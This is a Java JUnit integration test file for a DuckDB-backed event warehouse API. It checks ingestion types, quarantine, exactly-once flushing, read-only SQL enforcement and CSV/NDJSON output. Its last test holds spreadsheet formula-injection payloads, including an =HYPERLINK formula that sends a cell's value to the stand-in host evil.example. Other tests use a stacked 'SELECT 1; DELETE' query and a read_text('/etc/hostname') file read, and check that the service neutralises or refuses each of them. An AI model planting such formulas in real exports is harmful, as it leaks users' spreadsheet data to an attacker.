package dev.interlace.integration.http;

import static dev.interlace.integration.ApiAnswer.assertError;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.interlace.client.ErrorCode;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Published events become rows in DuckDB exactly once, with exact types, and {@code POST /sql} reads them. */
class WarehouseApiTest {

    @TempDir
    Path dataDirectory;

    private static TestServer.Response sql(TestServer api, String query) {
        return api.post("/sql", "text/plain", query);
    }

    @Test
    void publishedEventsBecomeRowsWithTheirDeclaredTypes() {
        try (TestServer api = TestServer.start(dataDirectory)) {
            api.postJson("/streams/orders", "[{\"order_id\":\"o1\",\"total\":49.5,"
                    + "\"placed_at\":\"2026-11-29T08:00:00.123456+01:00\",\"meta\":{\"a\":[1,2.50]}},"
                    + "{\"order_id\":\"o2\",\"total\":\"0.10\"},{\"order_id\":\"o1\"}]");
            api.awaitFlushed("orders");
            JsonNode body = sql(api, "SELECT * FROM streams.orders ORDER BY _offset").body();
            assertThat(body.get("columns").toString()).isEqualTo("[{\"name\":\"order_id\",\"type\":\"VARCHAR\"},"
                    + "{\"name\":\"total\",\"type\":\"DECIMAL(12,2)\"},{\"name\":\"placed_at\",\"type\":\"TIMESTAMP\"},"
                    + "{\"name\":\"meta\",\"type\":\"JSON\"},{\"name\":\"_offset\",\"type\":\"BIGINT\"},"
                    + "{\"name\":\"_ingested_at\",\"type\":\"TIMESTAMP\"},{\"name\":\"_request_id\",\"type\":\"VARCHAR\"}]");
            assertThat(body.get("count").asInt()).isEqualTo(2);
            JsonNode first = body.get("rows").get(0);
            assertThat(first.get(0).asText()).isEqualTo("o1");
            assertThat(first.get(1).toString()).isEqualTo("49.50");
            assertThat(first.get(2).asText()).isEqualTo("2026-11-29T07:00:00.123456Z");
            assertThat(first.get(3).toString()).isEqualTo("{\"a\":[1,2.50]}");
            assertThat(first.get(4).asLong()).isEqualTo(1);
            assertThat(body.get("rows").get(1).get(1).toString()).isEqualTo("0.10");
            assertThat(body.get("truncated").asBoolean()).isFalse();
        }
    }

    @Test
    void quarantinedEventsLandInTheQuarantineTableWithTheirErrors() {
        try (TestServer api = TestServer.start(dataDirectory)) {
            api.postJson("/streams/clicks", "[{\"click_id\":\"c1\",\"url\":\"/a\",\"at\":\"2026-11-29T08:00:00Z\"},"
                    + "{\"click_id\":\"c2\",\"url\":\"/b\",\"at\":\"soon\"}]");
            api.awaitFlushed("clicks");
            JsonNode row = sql(api, "SELECT _seq, payload, errors FROM streams.clicks__quarantine").body()
                    .get("rows").get(0);
            assertThat(row.get(0).asLong()).isEqualTo(1);
            assertThat(row.get(1).get("click_id").asText()).isEqualTo("c2");
            assertThat(row.get(2).get(0).get("field").asText()).isEqualTo("at");
            assertThat(sql(api, "SELECT count(*) FROM streams.clicks").body().get("rows").get(0).get(0).asLong())
                    .isEqualTo(1);
        }
    }

    @Test
    void aBacklogLeftInTheLogIsFlushedAtStartUpExactlyOnce() {
        try (TestServer api = TestServer.stalled(dataDirectory)) {
            StringBuilder batch = new StringBuilder("[");
            for (int i = 0; i < 500; i++) {
                batch.append(i == 0 ? "" : ",").append("{\"order_id\":\"k").append(i).append("\"}");
            }
            assertThat(api.postJson("/streams/orders", batch.append("]").toString()).status()).isEqualTo(200);
            assertThat(api.get("/streams/orders").body().get("watermark").asLong()).isZero();
        }
        try (TestServer api = TestServer.start(dataDirectory, "--flush-batch-rows", "64")) {
            JsonNode stream = api.awaitFlushed("orders");
            assertThat(stream.get("watermark").asLong()).isEqualTo(500);
            JsonNode counts = sql(api, "SELECT count(*), count(DISTINCT _offset), max(_offset),"
                    + " count(DISTINCT order_id) FROM streams.orders").body().get("rows").get(0);
            assertThat(counts.toString()).isEqualTo("[500,500,500,500]");
        }
    }

    @Test
    void onlyOneReadOnlyStatementRuns() {
        try (TestServer api = TestServer.start(dataDirectory)) {
            api.postJson("/streams/orders", "{\"order_id\":\"o1\"}");
            api.awaitFlushed("orders");
            TestServer.Response delete = sql(api, "DELETE FROM streams.orders");
            assertError(delete, 403, ErrorCode.READ_ONLY);
            TestServer.Response two = sql(api, "SELECT 1; DELETE FROM streams.orders");
            assertThat(two.status()).isEqualTo(400);
            assertThat(sql(api, "WITH x AS (SELECT 1) DELETE FROM streams.orders").status()).isEqualTo(403);
            assertThat(sql(api, "SELECT count(*) FROM streams.orders").body().get("rows").get(0).get(0).asLong())
                    .isEqualTo(1);
        }
    }

    @Test
    void externalFilesCannotBeRead() {
        try (TestServer api = TestServer.start(dataDirectory)) {
            TestServer.Response response = sql(api, "SELECT * FROM read_text('/etc/hostname')");
            assertThat(response.status()).isEqualTo(400);
            assertThat(response.body().get("message").asText()).contains("disabled by configuration");
        }
    }

    @Test
    void aQueryErrorIs400WithDuckDbsMessage() {
        try (TestServer api = TestServer.start(dataDirectory)) {
            TestServer.Response response = sql(api, "SELECT nope FROM streams.orders");
            assertError(response, 400, ErrorCode.QUERY_FAILED);
            assertThat(response.body().get("message").asText()).contains("Referenced column \"nope\" not found");
        }
    }

    @Test
    void resultsAreCappedAndSayTheyWereTruncated() {
        try (TestServer api = TestServer.start(dataDirectory)) {
            JsonNode body = api.postJson("/sql", "{\"sql\": \"SELECT * FROM range(10001)\"}").body();
            assertThat(body.get("count").asInt()).isEqualTo(10_000);
            assertThat(body.get("truncated").asBoolean()).isTrue();
        }
    }

    @Test
    void csvAndNdjsonFollowTheAcceptHeader() throws Exception {
        try (TestServer api = TestServer.start(dataDirectory)) {
            String query = "SELECT 1 AS n, 'a,b' AS s, 2.50::DECIMAL(4,2) AS d";
            HttpResponse<String> csv = api.client.send(api.request("/sql").header("Accept", "text/csv")
                    .POST(HttpRequest.BodyPublishers.ofString(query)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(csv.body()).isEqualTo("n,s,d\r\n1,\"a,b\",2.50\r\n");
            HttpResponse<String> ndjson = api.client.send(api.request("/sql").header("Accept", "application/x-ndjson")
                    .POST(HttpRequest.BodyPublishers.ofString(query)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(ndjson.body()).isEqualTo("{\"n\":1,\"s\":\"a,b\",\"d\":2.50}\n");
        }
    }

    /**
     * Published text that a spreadsheet would run as a formula ({@code =}, {@code +}, {@code -}, {@code @}, tab,
     * carriage return first) is written to CSV behind a {@code '}, as OWASP recommends; numbers, negative ones
     * included, stay numbers, and JSON answers keep the value as it was published.
     */
    @Test
    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralisedAndJsonKeepsThemRaw() throws Exception {
        try (TestServer api = TestServer.start(dataDirectory)) {
            String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
            List<String> hostile = List.of(hyperlink, "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx", "safe");
            StringBuilder events = new StringBuilder("[");
            for (int i = 0; i < hostile.size(); i++) {
                events.append(i == 0 ? "" : ",").append(TestServer.JSON.writeValueAsString(java.util.Map.of(
                        "order_id", hostile.get(i), "total", i == 1 ? -5 : i)));
            }
            assertThat(api.postJson("/streams/orders", events.append(']').toString()).status()).isEqualTo(200);
            api.awaitFlushed("orders");
            String query = "SELECT order_id, total, -7 AS \"=n\" FROM streams.orders ORDER BY _offset";

            HttpResponse<String> csv = api.client.send(api.request("/sql").header("Accept", "text/csv")
                    .POST(HttpRequest.BodyPublishers.ofString(query)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(csv.statusCode()).isEqualTo(200);
            assertThat(csv.body()).isEqualTo("order_id,total,'=n\r\n"
                    + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",0.00,-7\r\n"
                    + "'+1+1,-5.00,-7\r\n"
                    + "'-2+3,2.00,-7\r\n"
                    + "'@SUM(1),3.00,-7\r\n"
                    + "'\tx,4.00,-7\r\n"
                    + "\"'\rx\",5.00,-7\r\n"
                    + "safe,6.00,-7\r\n");

            JsonNode json = sql(api, query).body();
            for (int i = 0; i < hostile.size(); i++) {
                assertThat(json.get("rows").get(i).get(0).asText()).as("JSON keeps the value").isEqualTo(hostile.get(i));
            }
            assertThat(json.get("columns").get(2).get("name").asText()).isEqualTo("=n");
        }
    }
}
